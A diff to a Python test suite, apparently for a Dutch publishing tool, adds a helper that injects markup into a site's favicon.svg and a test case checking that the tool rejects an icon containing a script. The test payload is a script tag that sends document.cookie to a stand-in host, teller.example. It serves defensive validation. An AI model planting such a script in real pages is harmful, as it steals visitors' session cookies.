@@ -56,6 +56,14 @@ def set_in_template(werkmap: Path, name: str, text: str, line: int = 3) -> None:
     target.write_text("\n".join(lines), encoding="utf-8")
 
 
+def icon(werkmap: Path, inside: str) -> None:
+    """A workspace copy of the site's icon with ``inside`` added in its <svg>."""
+    shipped = (ROOT / "templates" / "site" / "favicon.svg").read_text(encoding="utf-8")
+    target = werkmap / "templates" / "site" / "favicon.svg"
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text(shipped.replace("</svg>", inside + "</svg>"), encoding="utf-8")
+
+
 def blok(werkmap: Path, text: str, name: str = "aanval.md") -> Path:
     """A workspace block that sits in the first chapter of the regiovisie."""
     path = werkmap / "content" / name
@@ -258,6 +266,17 @@ CASES = [
         ("-f", "html"),
         2,
         "templates/html/stijl.css, regel 2: dit stijlbestand haalt een bestand of adres",
+    ),
+    Case(
+        # The site serves the icon as a file: opened in a tab, a script in it would run.
+        "site-icon-with-a-script",
+        lambda w, m: icon(w, '<script>fetch("https://teller.example/" + document.cookie)</script>'),
+        ("-f", "site"),
+        2,
+        (
+            "Het pictogram van de website kan niet worden gebruikt.",
+            "templates/site/favicon.svg: 'favicon.svg' bevat een <script>-onderdeel",
+        ),
     ),
     Case(
         "site-index-runs-code",
